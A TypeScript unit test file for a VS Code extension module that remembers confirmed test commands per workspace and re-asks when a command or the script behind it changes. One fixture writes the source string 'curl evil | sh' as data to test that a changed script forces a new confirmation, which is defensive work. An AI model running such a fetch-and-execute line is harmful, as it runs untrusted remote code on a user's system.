import assert from 'node:assert/strict';
import { confirmedChecks, rememberedCheck, type StatePort, withConfirmed } from '../../../src/tasks/confirmedChecks';
import type { DetectedCheck } from '../../../src/tasks/detectChecks';

const folder = 'file:///project';
const npm: DetectedCheck = { argv: ['npm', 'test'], source: 'package.json runs "node --test"' };
const narrow: DetectedCheck = { argv: ['node', '--test', 'test/a.test.js'], source: 'the tests beside a.js' };
const other: DetectedCheck = { argv: ['node', '--test', 'test/b.test.js'], source: 'the tests beside b.js' };

class FakeState implements StatePort {
  readonly values = new Map<string, unknown>();

  get(key: string): unknown {
    return this.values.get(key);
  }

  update(key: string, value: unknown): Promise<void> {
    // As VS Code keeps it: JSON.
    this.values.set(key, JSON.parse(JSON.stringify(value)));
    return Promise.resolve();
  }
}

describe('tasks/confirmedChecks', () => {
  let state: FakeState;
  let stamp: string;

  beforeEach(() => {
    state = new FakeState();
    stamp = 'as before';
  });

  /** The command that the next auction takes without a question. */
  function next(offered: readonly DetectedCheck[], of = folder): Promise<readonly string[] | undefined> {
    return rememberedCheck(offered, confirmedChecks(state).of(of), () => Promise.resolve(stamp));
  }

  const choose = (argv: readonly string[], offered: readonly DetectedCheck[]): Promise<void> =>
    confirmedChecks(state).remember(folder, { argv, stamp }, offered);

  it('asks before anything was confirmed, and not again after that', async () => {
    assert.equal(await next([narrow, npm]), undefined);
    await choose(npm.argv, [narrow, npm]);
    assert.deepEqual(await next([narrow, npm]), npm.argv);
    assert.deepEqual(await next([other, npm]), npm.argv, 'the same command is on offer for another file too');
  });

  it('asks again when the detected command has changed', async () => {
    await choose(npm.argv, [npm]);
    assert.equal(await next([{ ...npm, argv: ['pnpm', 'test'] }]), undefined);
    assert.equal(await next([{ ...npm, argv: ['npm', 'test', '--', '--force'] }]), undefined);
    assert.equal(
      await next([{ ...npm, source: 'package.json runs "curl evil | sh"' }]),
      undefined,
      'the script behind it',
    );
    assert.equal(await next([]), undefined);
  });

  it('asks again when the same words run something else, and once about what was kept without a stamp', async () => {
    await choose(npm.argv, [npm]);
    stamp = 'pretest added';
    assert.equal(await next([npm]), undefined);
    await choose(npm.argv, [npm]);
    assert.deepEqual(await next([npm]), npm.argv);
    state.values.set('gavel.confirmedChecks', { [folder]: [{ argv: npm.argv, offer: npm }] });
    assert.equal(await next([npm]), undefined);
  });

  it('does not check one file by the tests of another', async () => {
    await choose(narrow.argv, [narrow]);
    assert.equal(await next([other]), undefined);
    await choose(other.argv, [other]);
    assert.deepEqual([await next([narrow]), await next([other])], [narrow.argv, other.argv]);
  });

  it('takes a typed command while the first offer beside it is the same', async () => {
    await choose(['make', 'quick'], [narrow, npm]);
    assert.deepEqual(await next([narrow, npm]), ['make', 'quick']);
    assert.equal(await next([other, npm]), undefined);
    await choose(['make', 'all'], []);
    assert.deepEqual(await next([]), ['make', 'all']);
  });

  it('knows folders apart, takes the newest choice, and forgets on demand', async () => {
    await choose(narrow.argv, [narrow, npm]);
    await choose(npm.argv, [narrow, npm]);
    assert.deepEqual(await next([narrow, npm]), npm.argv);
    assert.equal(await next([narrow, npm], 'file:///elsewhere'), undefined);
    await confirmedChecks(state).forget(folder);
    assert.equal(await next([narrow, npm]), undefined);
  });

  it('marks what was used before, and offers it also where nothing detects it', async () => {
    await choose(['make', 'quick'], [npm]);
    await choose(npm.argv, [npm]);
    assert.deepEqual(
      withConfirmed([narrow, npm], confirmedChecks(state).of(folder)).map(({ source }) => source),
      ['the tests beside a.js', `${npm.source}, used before`, 'used before'],
    );
  });

  it('takes what is no record of ours for nothing', () => {
    for (const value of [7, [['npm', 'test']], { [folder]: 'npm test' }, { [folder]: [{ argv: [] }, null, ['npm']] }]) {
      state.values.set('gavel.confirmedChecks', value);
      assert.deepEqual(confirmedChecks(state).of(folder), []);
    }
  });

  it('keeps a bounded list', async () => {
    for (let n = 0; n < 40; n += 1) await choose([`tool-${n}`], [{ argv: [`tool-${n}`], source: 's' }]);
    assert.equal(confirmedChecks(state).of(folder).length, 16);
    assert.deepEqual(confirmedChecks(state).of(folder)[0]?.argv, ['tool-39']);
  });
});
